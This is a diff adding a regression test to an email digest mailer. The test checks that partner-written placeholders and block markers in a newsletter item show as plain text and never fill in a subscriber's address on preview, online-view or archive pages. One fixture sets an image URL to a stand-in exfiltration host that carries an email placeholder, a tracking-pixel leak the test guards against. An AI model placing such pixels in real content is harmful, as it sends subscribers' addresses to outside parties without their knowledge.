@@ -151,3 +151,43 @@ def test_cli_preview_and_test_send(session, app, rt, transport, tmp_path):
     r = runner.invoke(main, ["edition", "preview-link", PERIOD])
     assert r.output.startswith("https://digest.example.org/preview/")
     assert w  # the world was used through slugs
+
+
+def test_partner_syntax_in_an_item_renders_as_text_on_every_web_face(session, client, rt, queue):
+    """Issue 9.1/9.2: the preview answered 500 for a summary holding ``<!--BLOCK:zzz-->``,
+    and partner placeholders filled in the viewer's address. Preview, view online and the
+    archive now show the partner's text as written, and nobody's address where it put one."""
+    from mailer.delivery.actors import start_edition
+
+    w = standard_world(session)
+    bad = w.item("bad", "naz", ["sexual-health"], day=12, title="Hello __PH_EMAIL__ __PH_NOPE__",
+                 summary="Manage at __PH_MANAGE_URL__ <!--BLOCK:zzz--> <!--BLOCK:public-->PUBLIC")
+    bad.image_url, bad.image_alt = "https://exfil.example/p.gif?e=__PH_EMAIL__", "__PH_VIEW_URL__"
+    w.subscriber("amina@x.org", topics=["sexual-health"], name="Amina Rahman")
+    ed = build_edition(session, PERIOD)
+    session.commit()
+    token = preview.preview_token(rt.settings, ed.id)
+    for query in (f"topic={w.topics['sexual-health'].id}", "subscriber=amina@x.org"):
+        for fmt in ("", "&format=text"):
+            frame = client.get(f"/preview/{token}/frame?{query}{fmt}")
+            assert frame.status_code == 200, frame.text
+            assert "Hello __PH_EMAIL__ __PH_NOPE__" in frame.text
+            assert "amina@x.org" not in frame.text.replace("sent to amina@x.org", "", 1)
+            assert "subscriber@example.invalid" not in frame.text.replace(
+                "sent to subscriber@example.invalid", "", 1)
+
+    start_edition.send(ed.id)
+    queue()
+    data, _ = _message_for(rt.transport, "amina@x.org")
+    view = next(u for u in links_in(data) if "/view/" in u).removeprefix(rt.settings.base_url)
+    page = client.get(view)
+    assert page.status_code == 200
+    assert page.text.count("amina@x.org") == 1  # "It was sent to amina@x.org."
+    assert "e=__PH_EMAIL__" in page.text and "Manage at __PH_MANAGE_URL__" in page.text
+    assert page.text.count("/manage/") == 1 and "PUBLIC" in page.text
+    assert "public copy" not in page.text  # the public footer block stayed out
+    session.get(Edition, ed.id).status = "sent"
+    session.commit()
+    archive = client.get(f"/archive/{PERIOD}")
+    assert archive.status_code == 200 and "Hello __PH_EMAIL__ __PH_NOPE__" in archive.text
+    assert "amina" not in archive.text.lower() and "/manage/" not in archive.text
